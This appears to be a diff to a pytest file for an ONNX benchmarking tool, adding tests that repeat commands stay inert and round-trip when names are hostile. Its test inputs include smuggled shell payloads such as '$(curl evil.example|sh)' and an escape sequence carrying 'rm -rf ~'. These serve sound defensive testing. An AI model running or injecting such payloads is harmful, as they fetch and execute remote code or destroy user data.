@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 
 from dashboard.views.alert import provider_of
+from farm.contract.blocks import Tolerance
 from farm.contract.cells import CellSpec, Recipe, Runtime
 from farm.contract.document_cells import Cell
 from farm.contract.reports import CheckReport
@@ -16,9 +17,9 @@ from farm.rules.matrices import matrix
 from farm.rules.planning import planner
 from farm.rules.reporting.documents import BlockRecord, RunRecord, assemble
 from farm.rules.reporting.locks import lock
-from onnxfarm.commands.bench_options import read_matrix
+from onnxfarm.commands.bench_options import parse_tolerances, read_matrix, with_settings
 from onnxfarm.commands.feed_options import parse_sizes
-from tests.unit.rules.making import make_block, make_check, make_model, make_reports, plan_of
+from tests.unit.rules.making import make_block, make_check, make_model, make_output, make_reports, make_rounds, plan_of
 
 HOSTILE = "onnxfarm bench model.onnx; curl evil.example | sh #'"
 
@@ -127,7 +128,8 @@ def test_the_command_reads_back_to_the_very_same_cell(options: dict[str, Any]) -
 
 
 @pytest.mark.parametrize(
-    "name", ["$(curl evil.example|sh)", "a,b", "it's", "-x", "two words", "\x1b[201~\x03rm -rf ~\n", "ü", "`id`", "a=b"]
+    "name",
+    ["$(curl evil.example|sh)", "a,b", "it's", "-x", "two words", "\x1b[201~\x03rm -rf ~\n", "ü", "`id`", "a=b", "a\n"],
 )
 def test_a_dimension_cannot_be_named_so_that_a_copied_command_does_something_else(name: str) -> None:
     spec = spec_of(shapes=[{"sequence": 4}])
@@ -139,6 +141,32 @@ def test_a_dimension_cannot_be_named_so_that_a_copied_command_does_something_els
     assert json.loads(words[words.index("--matrix") + 1])["shapes"] == [{name: 4}]
     assert "--shape" not in words
     assert diverge_command(hostile, "model.onnx") == ""
+
+
+@pytest.mark.parametrize(
+    "name", ["y", "-x", "/head/out:0", "$(curl evil.example|sh)", "a=b", "y\n", "\x1b[201~\x03id\n"]
+)
+def test_the_command_judges_outputs_as_the_run_did_however_they_are_named(name: str) -> None:
+    tolerances = {name: Tolerance(atol=1e-6, rtol=0.25)}
+    command = repeat_command(spec_of(), "model.onnx", tolerances=tolerances)
+    assert command.isprintable()
+    words = shlex.split(command)
+    given = dict(zip(words[3::2], words[4::2], strict=True))
+    read = parse_tolerances([given["--tolerance"]] if "--tolerance" in given else None)
+    assert with_settings(read_matrix(given.get("--matrix"), {}), tolerance=read).tolerances == tolerances
+
+
+def test_a_cell_with_wrong_outputs_is_repeated_with_the_tolerance_that_they_broke_and_with_no_other_models() -> None:
+    tolerances = {"y": Tolerance(atol=1e-8, rtol=0.0), "of another model": Tolerance()}
+    block = make_block().model_copy(update={"tolerances": tolerances})
+    told = [make_check(arm.arm, outputs=[make_output(violations=4)]) for arm in block.arms]
+    for reports, named in ((told, ["y=1e-08,0.0"]), ([], None)):
+        record = BlockRecord(block, [*make_rounds(8, {0: 1.0, 1: 1.2}), *reports])
+        words = shlex.split(assemble(RunRecord(model=make_model(), blocks=[record])).cells[0].repeat_command)
+        # what was never compared may be any model's
+        given = words[words.index("--tolerance") + 1 :] if "--tolerance" in words else None
+        assert given == named
+        assert ("of another model" in words[-1]) is (named is None)
 
 
 def test_a_file_named_like_an_option_is_a_file_in_the_command() -> None:
